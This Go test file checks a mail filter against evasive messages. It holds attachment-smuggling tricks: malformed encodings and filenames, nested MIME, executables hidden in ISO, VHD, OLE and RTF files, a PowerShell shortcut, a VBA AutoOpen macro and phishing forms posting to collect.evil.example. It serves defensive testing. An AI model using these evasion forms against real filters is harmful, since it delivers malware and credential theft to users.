package e2e

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"outguard/internal/mailcorpus"
)

// Issue 23's claims tried by an independent reviewer: forms the builder's
// corpus does not cover, each through the engine setup builds from the
// example config's rules section and the SHIPPED rules (as
// TestEvasionCorpus). block: must be refused or held; otherwise
// delivered.

func reviewMsg(name, entity string) []byte { return mailcorpus.Message(name, entity) }

const reviewText = "Content-Type: text/plain; charset=utf-8\r\n\r\nPlease see the attached report.\r\n"

func reviewNest(n int, entity string) string {
	for i := n; i > 0; i-- {
		entity = mailcorpus.Multipart(fmt.Sprintf("lvl%02d", i), reviewText, entity)
	}
	return entity
}

// lnk is the fixed header of a Windows shell link (MS-SHLLINK 2.1:
// HeaderSize 0x4C, LinkCLSID 00021401-0000-0000-C000-000000000046), a
// shortcut running powershell.
func lnk() []byte {
	b := []byte("\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	b = append(b, make([]byte, 0x4c-len(b))...)
	return append(b, []byte("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc AAAA")...)
}

func utf16le(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, r := range utf16.Encode([]rune(s)) {
		out = binary.LittleEndian.AppendUint16(out, r)
	}
	return out
}

// ole is an OLE2 compound file whose bytes hold payload at a sector
// boundary, as a stream of it does (a Package object's embedded program,
// a VBA project).
func ole(payload []byte) []byte {
	b := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 512-8)...)
	b = append(b, payload...)
	return append(b, make([]byte, 1024)...)
}

// vbaProject is the start of a vbaProject.bin: an OLE2 file whose
// directory names the _VBA_PROJECT stream (UTF-16, as CFB stores names).
func vbaProject() []byte {
	var dir []byte
	for _, r := range "_VBA_PROJECT" {
		dir = binary.LittleEndian.AppendUint16(dir, uint16(r))
	}
	return ole(append(dir, []byte("Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"cmd /c calc\"\r\nEnd Sub\r\n")...))
}

// activeMime is an MSO ActiveMime blob (editdata.mso of a Word MHTML or
// 2003 XML document): the header, then the zlib-compressed OLE file at
// 0x32 (the offset olevba reads: uint16 at 0x1E + 46).
func activeMime(data []byte) []byte {
	h := make([]byte, 0x32)
	copy(h, "ActiveMime\x00\x00\x01\xf0\x04\x00\x00\x00\xff\xff\xff\xff")
	binary.LittleEndian.PutUint16(h[0x1E:], 0x32-46)
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(data)
	zw.Close()
	return append(h, z.Bytes()...)
}

func tarOf(name string, data []byte) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data)), Typeflag: tar.TypeReg})
	tw.Write(data)
	tw.Close()
	return b.Bytes()
}

// isoJolietOnly is an ISO 9660 image in which report.exe is hidden from
// the ISO 9660 tree (genisoimage -hide) and listed only in the Joliet
// tree, which Windows Explorer shows.
func isoJolietOnly(t testing.TB, pe []byte) []byte {
	dir := t.TempDir()
	src := filepath.Join(dir, "src")
	os.Mkdir(src, 0o755)
	os.WriteFile(filepath.Join(src, "report.exe"), pe, 0o644)
	os.WriteFile(filepath.Join(src, "readme.txt"), []byte("read me\n"), 0o644)
	out := filepath.Join(dir, "a.iso")
	if b, err := exec.Command("genisoimage", "-quiet", "-J", "-hide", "report.exe", "-o", out, src).CombinedOutput(); err != nil {
		t.Fatalf("genisoimage: %v %s", err, b)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func reviewCases(t testing.TB) []mailcorpus.Case {
	pe := mailcorpus.PE()
	var c []mailcorpus.Case
	add := func(name string, block bool, entity string) {
		c = append(c, mailcorpus.Case{Name: name, Form: "review", Msg: reviewMsg(name, entity), Block: block})
	}
	mp := func(parts ...string) string {
		return mailcorpus.Multipart("b", append([]string{reviewText}, parts...)...)
	}
	leaf := mailcorpus.Leaf
	b64 := mailcorpus.B64
	attach := mailcorpus.Attach
	script := []byte(mailcorpus.Script)

	// Transfer encoding spellings.
	for _, cte := range []string{" BASE64 ", "Base64", "base-64", "base64 (binary)", "\r\n base64"} {
		add("cte-"+strings.Join(strings.Fields(cte), "_"), true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Transfer-Encoding:"+cte, b64(pe))))
	}
	add("cte-x-uuencode", true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: x-uuencode", mailcorpus.UUEncode("report.exe", pe))))
	add("uuencode-0755", true, leaf("Content-Type: text/plain", "see:\r\n"+strings.Replace(mailcorpus.UUEncode("report.exe", pe), "begin 644", "begin 0755", 1)))
	add("begin-base64", true, leaf("Content-Type: text/plain", "see:\r\nbegin-base64 644 report.exe\r\n"+b64(pe)+"====\r\n"))
	// Names.
	add("name-duplicate-filename", true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"invoice.js\"; filename=\"notes.txt\"\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("name-duplicate-name", true, mp(leaf("Content-Type: application/octet-stream; name=\"invoice.js\"; name=\"notes.txt\"\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("name-2047-trailing-space", true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"=?utf-8?q?invoice.js_?=\"\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("name-trailing-dot", true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"invoice.js.\"\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("name-nul", true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"=?utf-8?q?invoice.js=00.txt?=\"\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("name-nul-hides-next", true, mp(leaf("Content-Type: application/octet-stream; name=\"invoice.js\"\r\nContent-Disposition: attachment; filename=\"=?utf-8?q?notes=00.txt?=\"\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("name-2047-split", true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"=?utf-8?q?invoice?= =?utf-8?q?=2Ejs?=\"\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("name-2231-pct", true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''invoice%2Ejs\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("name-2231-and-plain", true, mp(leaf("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"invoice.js\"; filename*=utf-8''notes.txt\r\nContent-Transfer-Encoding: base64", b64(script))))
	add("lnk", true, mp(attach("application/octet-stream", "invoice.lnk", lnk())))
	// Boundaries.
	add("boundary-2231", true, leaf("Content-Type: multipart/mixed; boundary*=us-ascii'en'b", "--b\r\n"+reviewText+"--b\r\n"+attach("application/octet-stream", "report.exe", pe)+"--b--\r\n"))
	add("boundary-duplicate-js", true, leaf("Content-Type: multipart/mixed; boundary=\"b\"; boundary=\"c\"", "--b\r\n"+reviewText+"--b\r\n"+attach("application/octet-stream", "invoice.js", script)+"--b--\r\n"))
	add("boundary-no-final-js", true, leaf("Content-Type: multipart/mixed; boundary=b", "--b\r\n"+reviewText+"--b\r\n"+attach("application/octet-stream", "invoice.js", script)))
	add("boundary-nested-same", true, mp(leaf("Content-Type: multipart/mixed; boundary=\"b\"", "--b\r\n"+reviewText+"--b\r\n"+attach("application/octet-stream", "report.exe", pe)+"--b--\r\n")))
	add("boundary-prefix", true, leaf("Content-Type: multipart/mixed; boundary=\"b\"", "--b\r\n"+leaf("Content-Type: multipart/mixed; boundary=\"b1\"", "--b1\r\n"+reviewText+"--b1\r\n"+attach("application/octet-stream", "report.exe", pe)+"--b1--\r\n")+"--b--\r\n"))
	// Base64 in padded chunks (a client decodes each chunk).
	add("b64-padded-chunks", true, mp(leaf("Content-Type: application/octet-stream; name=\"report.pdf\"\r\nContent-Transfer-Encoding: base64", base64.StdEncoding.EncodeToString(pe[:2])+"\r\n"+b64(pe[2:]))))
	// Past the limits, other encodings.
	var many []string
	for i := range 1000 {
		many = append(many, fmt.Sprintf("Content-Type: text/plain\r\n\r\nline %d\r\n", i))
	}
	add("uuencode-nested-12", true, reviewNest(12, leaf("Content-Type: text/plain", "see:\r\n"+mailcorpus.UUEncode("report.pdf", pe))))
	add("uuencode-part-1001", true, mailcorpus.Multipart("b", append(many, leaf("Content-Type: text/plain", "see:\r\n"+mailcorpus.UUEncode("report.pdf", pe)))...))
	add("yenc-nested-12", true, reviewNest(12, leaf("Content-Type: text/plain", "see:\r\n"+mailcorpus.YEnc("report.pdf", pe))))
	fwd := string(mailcorpus.Message("fwd", mp(attach("application/octet-stream", "report.exe", pe))))
	for i := 0; i < 14; i++ {
		fwd = string(mailcorpus.Message(fmt.Sprintf("fwd%d", i), mp(leaf("Content-Type: message/rfc822", fwd))))
	}
	add("rfc822-nested-15", true, mp(leaf("Content-Type: message/rfc822", fwd)))
	// Archives.
	add("zip-concatenated", true, mp(attach("application/zip", "docs.zip", append(mailcorpus.Zip(mailcorpus.Member{Name: "report.exe", Data: pe, Method: zip.Deflate}), mailcorpus.Zip(mailcorpus.Member{Name: "a.pdf", Data: mailcorpus.PDF(), Method: zip.Deflate})...))))
	add("tar", true, mp(attach("application/x-tar", "a.tar", tarOf("report.exe", pe))))
	add("tar-gz-in-tar", true, mp(attach("application/x-tar", "a.tar", tarOf("inner.tar.gz", mailcorpus.Gzip("inner.tar", tarOf("report.exe", pe))))))
	add("iso-joliet-only", true, mp(attach("application/octet-stream", "invoice.iso", isoJolietOnly(t, pe))))
	vhd := make([]byte, 64<<10)
	copy(vhd[0x8000:], pe)
	footer := make([]byte, 512)
	copy(footer, "conectix")
	add("vhd", true, mp(attach("application/octet-stream", "invoice.vhd", append(vhd, footer...))))
	add("eml-attached-octet", true, mp(attach("application/octet-stream", "fwd.eml", mailcorpus.Message("inner", mp(attach("application/octet-stream", "report.exe", pe))))))
	// Programs inside documents.
	add("pe-in-ole", true, mp(attach("application/msword", "invoice.doc", ole(pe))))
	add("pe-in-docx-oleobject", true, mp(attach("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "invoice.docx",
		mailcorpus.Zip(mailcorpus.Member{Name: "[Content_Types].xml", Data: []byte("<Types/>"), Method: zip.Deflate}, mailcorpus.Member{Name: "word/embeddings/oleObject1.bin", Data: ole(pe), Method: zip.Deflate}))))
	add("rtf-objdata", true, mp(attach("application/msword", "invoice.doc", []byte("{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050616b6167650000000000000000"+hex.EncodeToString(pe)+"}}}"))))
	obf := hex.EncodeToString(pe)
	var ob strings.Builder
	for i := 0; i < len(obf); i += 10 {
		ob.WriteString(obf[i:min(i+10, len(obf))] + "\r\n{\\*\\xyz 99}\\par ")
	}
	add("rtf-objdata-obfuscated", true, mp(attach("application/rtf", "invoice.rtf", []byte("{\\rt{\\object\\objemb{\\*\\objdata 0105000002000000080000005061636b616765000000000000"+ob.String()+"}}}"))))
	// Macros.
	add("docm-vba-renamed", true, mp(attach("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "invoice.docx",
		mailcorpus.Zip(mailcorpus.Member{Name: "[Content_Types].xml", Data: []byte("<Types/>"), Method: zip.Deflate}, mailcorpus.Member{Name: "word/x.bin", Data: vbaProject(), Method: zip.Deflate}))))
	mht := "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01\"\r\n\r\n------=_NextPart_01\r\nContent-Location: file:///C:/doc.htm\r\nContent-Type: text/html; charset=\"utf-8\"\r\n\r\n<html><head><link rel=Edit-Time-Data href=\"editdata.mso\"></head><body>Invoice</body></html>\r\n------=_NextPart_01\r\nContent-Location: file:///C:/editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n" + b64(activeMime(vbaProject())) + "------=_NextPart_01--\r\n"
	add("mht-doc-activemime", true, mp(attach("application/msword", "invoice.doc", []byte(mht))))
	// Phishing pages.
	ph := mailcorpus.Phish
	add("phish-entity-action", true, mp(attach("text/html", "login.html", []byte(strings.Replace(ph, "https://", "https&#58;//", 1)))))
	add("phish-padded-form", true, mp(attach("text/html", "login.html", []byte(strings.Replace(ph, "<form ", "<form data-x=\""+strings.Repeat("a", 400)+"\" ", 1)))))
	add("phish-formaction", true, mp(attach("text/html", "login.html", []byte(strings.Replace(strings.Replace(ph, ` action="https://collect.evil.example/p.php"`, "", 1), `<input type="submit">`, `<button formaction="https://collect.evil.example/p.php">Sign in</button>`, 1)))))
	add("phish-base-href", true, mp(attach("text/html", "login.html", []byte(strings.Replace(strings.Replace(ph, "https://collect.evil.example/p.php", "p.php", 1), "<head>", "<head><base href=\"https://collect.evil.example/\">", 1)))))
	add("phish-utf16", true, mp(attach("text/html", "login.html", utf16le(ph))))

	// Ordinary mail a fix must not hold.
	add("ok-zip-two-docs", false, mp(attach("application/zip", "docs.zip", mailcorpus.Zip(mailcorpus.Member{Name: "a.pdf", Data: mailcorpus.PDF(), Method: zip.Deflate}, mailcorpus.Member{Name: "b.txt", Data: []byte("A zip ends with PK\x05\x06 and twenty-two bytes or more of its end record.\n"), Method: zip.Store}))))
	add("ok-filename-dot-txt", false, mp(attach("text/plain", "notes.txt.", []byte("notes\n"))))
	add("ok-rtf", false, mp(attach("application/rtf", "letter.rtf", []byte("{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Dear customer,\\par see the deadbeef figures.\\par}"))))
	add("ok-xls-ole", false, mp(attach("application/vnd.ms-excel", "budget.xls", ole([]byte("Workbook data, no program")))))
	add("ok-eml-attached", false, mp(attach("application/octet-stream", "fwd.eml", mailcorpus.Message("inner", mp(attach("application/pdf", "a.pdf", mailcorpus.PDF()))))))
	add("ok-html-login-same-site", false, mp(attach("text/html", "page.html", []byte("<html><body><form action=\"/login\"><input type=\"password\"></form></body></html>"))))
	return c
}

func TestReviewEvasion(t *testing.T) {
	t.Parallel()
	checkEngine(t, reviewCases(t))
}

// TestReviewEvasionThroughPostfix: the same forms through a real Postfix
// and milterd with the example config's rules section and the quarantine,
// as TestEvasionThroughPostfix: each refused (550) or held, each ordinary
// one delivered.
func TestReviewEvasionThroughPostfix(t *testing.T) {
	t.Parallel()
	checkThroughPostfix(t, reviewCases(t))
}
